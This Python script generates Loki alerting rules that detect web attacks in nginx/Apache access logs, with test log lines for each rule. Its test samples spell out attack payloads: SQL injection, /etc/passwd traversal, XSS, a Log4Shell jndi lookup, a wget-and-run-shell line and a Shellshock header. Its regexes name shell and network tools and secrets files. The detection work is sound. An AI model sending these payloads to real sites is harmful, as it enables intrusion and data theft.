#!/usr/bin/env python3
"""Writes rules/web.yaml: every web rule in a JSON and a combined-log variant,
with positive and negative samples in both formats."""
import json
import os
JSON_SRC = '{job=~".+"} |= "\\"request_uri\\":" | json | remote_addr != "" | label_format src_ip="{{.remote_addr}}", uri=`{{ .request_uri | urldecode | urldecode }}`'
CLF_SRC = ('{job=~".+"} |= "HTTP/" != "\\"request_uri\\":" | regexp `^(?P<remote_addr>[0-9A-Fa-f:.]+) \\S+ (?P<remote_user>\\S+) \\[[^\\]]*\\] "(?P<request_method>[A-Z]+) (?P<request_uri>.*) (?P<server_protocol>HTTP/[0-9.]+)" (?P<status>\\d{3}) (?P<body_bytes_sent>\\d+|-) "(?P<http_referer>[^"]*)" "(?P<http_user_agent>[^"]*)"` | remote_addr != "" | label_format src_ip="{{.remote_addr}}", uri=`{{ .request_uri | urldecode | urldecode }}`')

SQLI = r"""(?is).*(?:'\s*(?:or|and)\s+['"]?\w*['"]?\s*(?:=|like\b|<|>)|\b(?:or|and)\s+\d+\s*=\s*\d+|union(?:\s|/\*.*?\*/)+(?:all(?:\s|/\*.*?\*/)+)?select\b|'\s*(?:--|#|/\*)|\border\s+by\s+\d+\s*(?:--|#)|\b(?:sleep|pg_sleep)\s*\(\s*\d+(?:\.\d+)?\s*\)|\bbenchmark\s*\(\s*\d+\s*,|\bwaitfor\s+delay\s+'|;\s*(?:drop|delete|insert|update|create|alter|truncate|exec|shutdown|declare|waitfor|select)\s|\b(?:extractvalue|updatexml)\s*\(|@@version|information_schema|\bconcat\s*\(\s*0x).*"""
TRAV = r"""(?is).*(?:\.\.[/\\]|[/\\]\.\.(?:$|[?#])|/etc/(?:passwd|shadow|group|hosts|issue)\b|/proc/self/|\b(?:php|phar|zip|data|expect|glob)://|file:///|\x00|\b(?:win|boot|system)\.ini\b).*"""
TRAV_RAW = r"""(?i).*(?:%c0%ae|%e0%80%ae|%25c0%25ae).*"""
XSS = r"""(?is).*(?:<\s*/?\s*(?:script|img|svg|iframe|frame|body|object|embed|style|link|meta|details|video|audio|input|form|math|base|marquee)\b|\b(?:java|vb)script\s*:|\bon(?:error|load|mouseover|focus|click|toggle|begin|animationstart)\s*=|document\.(?:cookie|domain|location)|\beval\s*\().*"""
CMDI = r"""(?is).*(?:[;|&\x60]\s*(?:cat|id|uname|whoami|wget|curl|sh|bash|nc|ncat|ping|ls|rm|chmod|python[0-9.]*|perl|php|powershell|cmd)(?:\s|$|[;|&\x60])|\$\([^)]*\)|\x60[^\x60]+\x60|\$\{jndi:|\$\{(?:lower|upper|env|sys|::-)).*"""
SHELLSHOCK = r"""(?s).*\(\)\s*\{[^}]*\}\s*;.*"""
UA = r"""(?i).*(?:sqlmap|nikto|nmap|masscan|zgrab|nuclei|gobuster|dirbuster|wpscan|fuzz faster u fool|ffuf|wfuzz|l9explore|censysinspect|acunetix|netsparker|openvas|whatweb|jaeles|nessus|havij|commix|zmeu).*"""
SECRETS = r"""(?is).*(?:/\.env(?:$|[?#./])|/\.git(?:/|$)|/\.svn/|/\.hg/|/\.aws/|/\.ssh/|/\.htpasswd|/\.htaccess|/\.DS_Store|/wp-config\.php|/config\.(?:json|ya?ml)(?:$|[?#])|/(?:backup|db|dump|database|site)\.(?:zip|tar|tar\.gz|tgz|sql|gz|rar|7z)(?:$|[?#])|/id_(?:rsa|dsa|ecdsa|ed25519)|/\.docker/|/\.kube/|/actuator/env|/server-status|/phpinfo\.php).*"""
PROBE = r"""(?i).*(?:/wp-login\.php|/wp-admin/|/xmlrpc\.php|/phpmyadmin|/pma/|/manager/html|/actuator/|/solr/admin|/HNAP1|/boaform/|eval-stdin\.php|/_ignition/|/telescope/|invokefunction|/cgi-bin/luci|/owa/auth/|/geoserver/|/remote/login|/console/|/administrator/|/admin/|/sdk$).*"""

def q(s):  # LogQL backtick string
    assert '`' not in s, s
    return '`' + s + '`'

rules = [
 ("SQLInjection", "high", "initial-access", "T1190", f"| uri =~ {q(SQLI)}",
  "SQL injection attempt from {{ $labels.src_ip }}: {{ $labels.uri }}",
  "Request URI (URL-decoded twice, + as space) holds SQL syntax: quote then OR/AND comparison, UNION SELECT, comment after a quote, sleep()/benchmark()/WAITFOR, stacked queries, error-based functions. A lone apostrophe or the word select does not alert.",
  ["/products?id=1%27%20OR%20%271%27%3D%271", "/products?id=1' OR '1'='1", "/login?user=admin%27--&pass=x",
   "/products?id=-1+union+all+select+1,2,group_concat(table_name)+from+information_schema.tables--",
   "/products?id=1%20UnIoN/**/SeLeCt%20username,password%20FROM%20users", "/products?id=1%27%20AND%20sleep%285%29%23",
   "/products?id=1%20AND%20benchmark(5000000,md5(1))", "/products?id=1%2527%2520OR%25201%253D1",
   "/api/v1/items?page=1;DROP%20TABLE%20users--", "/products?id=1;WAITFOR%20DELAY%20%270:0:5%27--"],
  ["/search?q=select+a+plan", "/blog/union-station-renovation", "/search?q=O%27Reilly+books", "/search?q=O'Brien",
   "/products?sort=order_by_date", "/wiki/Drop_table_(furniture)", "/search?q=1%3D1+math+worksheet",
   "/search?q=sleep+tracker+app", "/search?q=benchmark+results", "/search?q=--help", "/api/v1/items?page=2&id=5"]),
 ("PathTraversal", "high", "initial-access", "T1190", f"| uri =~ {q(TRAV)} or request_uri =~ {q(TRAV_RAW)}",
  "path traversal or file inclusion from {{ $labels.src_ip }}: {{ $labels.uri }}",
  "Request URI (decoded twice) climbs directories (../, ..%2f, %2e%2e/, ..\\, overlong %c0%ae), names /etc/passwd or /proc/self/, uses php:// and similar wrappers, or carries a null byte.",
  ["/static/../../../../etc/passwd", "/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
   "/download?file=....//....//....//etc/passwd", "/download?file=..%5c..%5c..%5cwindows%5cwin.ini",
   "/static/..%252f..%252f..%252f..%252fetc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
   "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd", "/download?file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
   "/index.php?page=php://filter/convert.base64-encode/resource=index.php", "/download?file=../../../../etc/passwd%00.png"],
  ["/downloads/v1.2..v1.3.diff", "/blog/2023/11/what-is-etc-passwd", "/docs/api/rate-limits", "/static/js/app.9b1d2e.js"]),
 ("CrossSiteScripting", "medium", "initial-access", "T1189", f"| uri =~ {q(XSS)}",
  "cross-site scripting attempt from {{ $labels.src_ip }}: {{ $labels.uri }}",
  "Request URI (decoded twice) holds an active HTML tag (script, img, svg, iframe, ...), a javascript: URI, an on*= event handler or document.cookie.",
  ["/search?q=<script>alert(1)</script>", "/search?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "/search?q=<svg/onload=alert(1)>",
   "/redirect?url=javascript:alert(document.domain)", "/search?q=%3CiFrAmE%20src%3Djavascript%3Aalert%281%29%3E",
   "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"],
  ["/api/v1/search?q=%3Cb%3Ebold%3C%2Fb%3E", "/docs/scripting/script-tags-explained", "/forum/thread?id=42&title=alert%28%29+not+working"]),
 ("CommandInjection", "high", "execution", "T1059.004", f"| uri =~ {q(CMDI)}",
  "command injection attempt from {{ $labels.src_ip }}: {{ $labels.uri }}",
  "Request URI (decoded twice) chains a shell command after ; | & or backticks, uses $(...), or a Log4Shell ${jndi:...} lookup.",
  ["/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd", "/api/v1/export?name=x%7Cid", "/tools?ip=%24(id)", "/search?q=%60uname%20-a%60",
   "/?x=${jndi:ldap://198.18.0.9:1389/a}", "/shell?cd+/tmp;wget+http://198.18.0.9/x.sh;sh+x.sh"],
  ["/api/v1/items?page=2&id=5", "/search?q=cat+food", "/api/v1/orders?status=open&page=3", "/search?q=--help"]),
 ("Shellshock", "high", "initial-access", "T1190", f"| http_user_agent =~ {q(SHELLSHOCK)} or http_referer =~ {q(SHELLSHOCK)} or uri =~ {q(SHELLSHOCK)}",
  "Shellshock (CVE-2014-6271) probe from {{ $labels.src_ip }}",
  "A header or the URI holds a bash function definition () { ...; };",
  [], []),
 ("WebScannerUserAgent", "low", "reconnaissance", "T1595.002", f"| http_user_agent =~ {q(UA)}",
  "vulnerability scanner {{ $labels.http_user_agent }} from {{ $labels.src_ip }}",
  "The User-Agent names a known scanner or attack tool (sqlmap, Nikto, Nmap NSE, masscan, zgrab, Nuclei, gobuster, WPScan, ffuf, ...).",
  [], []),
 ("WebSecretsProbe", "medium", "credential-access", "T1552.001", f"| uri =~ {q(SECRETS)}",
  "request for a secrets file from {{ $labels.src_ip }}: {{ $labels.uri }}",
  "Request for files that hold credentials or source: .env, .git/, .svn/, .aws/, .ssh/, wp-config.php, .htpasswd, database dumps and backups, actuator/env, server-status, phpinfo.",
  ["/.env", "/api/.env", "/.git/config", "/.git/HEAD", "/.aws/credentials", "/wp-config.php", "/db.sql", "/backup.zip", "/.DS_Store", "/actuator/env", "/server-status"],
  ["/environment", "/docs/getting-started", "/blog/2024/05/scaling-postgres", "/static/img/logo.svg"]),
 ("WebAdminProbe", "info", "reconnaissance", "T1595.003", f"| uri =~ {q(PROBE)}",
  "probe for an admin or vulnerable path from {{ $labels.src_ip }}: {{ $labels.uri }}",
  "Request for admin panels and paths of known vulnerable software (wp-login.php, phpMyAdmin, Tomcat manager, Spring actuator, Solr, HNAP, Laravel Ignition, ThinkPHP). Sites that run that software should drop this rule.",
  ["/wp-login.php", "/phpmyadmin/", "/manager/html", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/_ignition/execute-solution"],
  ["/account/orders", "/docs/api/authentication", "/products/widget-pro"]),
]

UA_POS = ["sqlmap/1.8.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
          "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
          "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "gobuster/3.6"]
UA_NEG = ["Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0", "curl/8.5.0",
          "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Prometheus/2.51.0"]
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"
SS = "() { :; }; /bin/bash -c 'cat /etc/passwd'"

def jline(uri, ua=BROWSER, ref=""):
    d = {"time_iso8601": "2024-06-01T00:00:00+00:00", "remote_addr": "198.18.0.9", "remote_user": "", "request_method": "GET",
         "request_uri": uri, "server_protocol": "HTTP/1.1", "status": 404, "body_bytes_sent": 153, "request_time": 0.004,
         "http_referer": ref, "http_user_agent": ua, "host": "www.example.com"}
    return json.dumps(d, ensure_ascii=False, separators=(",", ":"))

def cline(uri, ua=BROWSER, ref="-"):
    esc = lambda s: s.replace("\\", "\\x5C").replace('"', "\\x22")
    return '198.18.0.9 - - [01/Jun/2024:00:00:00 +0000] "GET %s HTTP/1.1" 404 153 "%s" "%s"' % (esc(uri), esc(ref), esc(ua))

def yq(s):  # single-quoted YAML scalar
    return "'" + s.replace("'", "''") + "'"

out = []
out.append("""# ward rule pack: web attacks in access logs (nginx/Apache combined format and
# JSON access logs with nginx's variable names: remote_addr, request_uri,
# http_user_agent, ...).
#
# Loki ruler format; the `tests:` key is ward's (docs/rules.md). Every rule
# exists twice: *Json for JSON access logs, *Combined for the combined format.
# The URI is URL-decoded twice (so %2527 and %252e are caught) with + as a
# space, into the field `uri`; the client address is copied to `src_ip`.
# Regexes are case-insensitive and unanchored in effect (label filters are
# anchored, hence the leading and trailing .*).
#
# Precision: these rules are measured on labelled data by
# bench/match_precision.sh; the false-positive traps of that data (an
# apostrophe in a name, "select" in a search, <b> tags, alert() in a title,
# v1.2..v1.3) are in the nomatch samples below.
#
# Generated by rules/gen_web.py: edit the table there and run it again.
groups:""")
for fmt, src, mk in (("Json", JSON_SRC, jline), ("Combined", CLF_SRC, cline)):
    out.append("  - name: web-%s\n    rules:" % fmt.lower())
    for name, sev, tactic, tech, filt, summary, desc, pos, neg in rules:
        expr = src + " " + filt
        out.append("      - alert: %s%s" % (name, fmt))
        out.append("        expr: |\n          %s" % expr)
        out.append("        labels:\n          severity: %s\n          mitre_tactic: %s\n          mitre_technique: %s" % (sev, tactic, tech))
        out.append("        annotations:\n          summary: %s\n          description: %s" % (yq(summary), yq(desc)))
        lines_pos = [mk(u) for u in pos]
        lines_neg = [mk(u) for u in neg]
        if name == "WebScannerUserAgent":
            lines_pos = [mk("/", ua=u) for u in UA_POS]
            lines_neg = [mk("/", ua=u) for u in UA_NEG]
        if name == "Shellshock":
            lines_pos = [mk("/cgi-bin/status", ua=SS), mk("/cgi-bin/test.cgi", ref=SS)]
            lines_neg = [mk("/cgi-bin/status"), mk("/search?q=()+{}")]
        out.append("        tests:\n          labels: {job: nginx}")
        out.append("          match:")
        for l in lines_pos:
            out.append("            - line: %s\n              fields: {src_ip: 198.18.0.9}" % yq(l))
        out.append("          nomatch:")
        for l in lines_neg:
            out.append("            - %s" % yq(l))
        out.append("")
open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "web.yaml"), "w").write("\n".join(out) + "\n")
